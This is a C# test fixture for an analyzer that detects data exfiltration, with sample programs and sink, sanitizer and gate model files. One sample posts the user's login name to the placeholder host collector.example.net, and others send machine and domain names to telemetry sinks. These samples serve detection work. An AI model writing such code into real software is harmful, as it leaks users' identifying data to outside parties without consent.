using System;

namespace ExfilAnalyzers.Tests.Package;

/// <summary>
/// What the temporary consumer projects contain: code a user writes with only the base class library,
/// and the models files a user drops beside the project or higher up. Expected lines are found by
/// the text on them, so the sources can be edited freely.
/// </summary>
internal static class ConsumerCode
{
    /// <summary>The user name posted to a collector: EXF1003 (and EXF1006) at the StringContent argument.</summary>
    public const string Reporter = """
        using System.Net.Http;
        using System.Threading.Tasks;

        namespace Demo;

        public static class Reporter
        {
            public static async Task ReportUserAsync()
            {
                var user = System.Environment.UserName;
                using var client = new HttpClient();
                await client.PostAsync("https://collector.example.net/u", new StringContent(user));
            }
        }
        """;

    public const string UserNameArgument = "new StringContent(user)";

    /// <summary>The project's own telemetry API, known to the analyzers only through ExfilModels.txt.</summary>
    public const string CustomSinks = """
        namespace Demo;

        public static class Telemetry
        {
            public static void Send(string value) { }

            public static void ReportMachine() => Telemetry.Send(System.Environment.MachineName);

            public static void ReportScrubbed() => Telemetry.Send(Scrubber.Scrub(System.Environment.MachineName));

            public static void ReportWithConsent()
            {
                if (Consent.IsGranted) Telemetry.Send(System.Environment.MachineName);
            }
        }

        public static class Scrubber
        {
            public static string Scrub(string value) => value.Length.ToString();
        }

        public static class Consent
        {
            public static bool IsGranted { get; set; }
        }

        public static class Audit
        {
            public static void Upload(string value) { }

            public static void ReportDomain() => Audit.Upload(System.Environment.UserDomainName);
        }
        """;

    public const string MachineNameArgument = "System.Environment.MachineName";

    /// <summary>Sent through the declared sanitizer: no diagnostic.</summary>
    public const string ScrubbedSend = "Telemetry.Send(Scrubber.Scrub(";

    /// <summary>Sent behind the declared consent gate: no diagnostic.</summary>
    public const string GatedSend = "if (Consent.IsGranted) Telemetry.Send(";

    public const string DomainNameArgument = "System.Environment.UserDomainName";

    /// <summary>Beside the project: a custom sink, sanitizer and gate, and a line that is not an entry.</summary>
    public const string ProjectModels = """
        # Demo's own telemetry API.
        sink M:Demo.Telemetry.Send(System.String)
        sanitizer M:Demo.Scrubber.Scrub(System.String)
        gate P:Demo.Consent.IsGranted
        this line is not an entry
        """;

    public const string MalformedModelsLine = "this line is not an entry";

    /// <summary>At the root of the workspace, above every project: a repository-wide sink.</summary>
    public const string RepositoryModels = """
        sink M:Demo.Audit.Upload(System.String)
        """;

    /// <summary>What a team that gates CI on this one rule writes.</summary>
    public const string Exf1003AsError = """
        is_global = true
        dotnet_diagnostic.EXF1003.severity = error
        """;

    /// <summary>The 1-based line of <paramref name="text"/> that contains <paramref name="marker"/>, and the column where it starts.</summary>
    public static (int Line, int Column) PositionOf(string text, string marker)
    {
        var lines = text.Split('\n');
        for (var i = 0; i < lines.Length; i++)
        {
            var column = lines[i].IndexOf(marker, StringComparison.Ordinal);
            if (column >= 0)
            {
                return (i + 1, column + 1);
            }
        }

        throw new ArgumentException($"'{marker}' is not in the text", nameof(marker));
    }
}
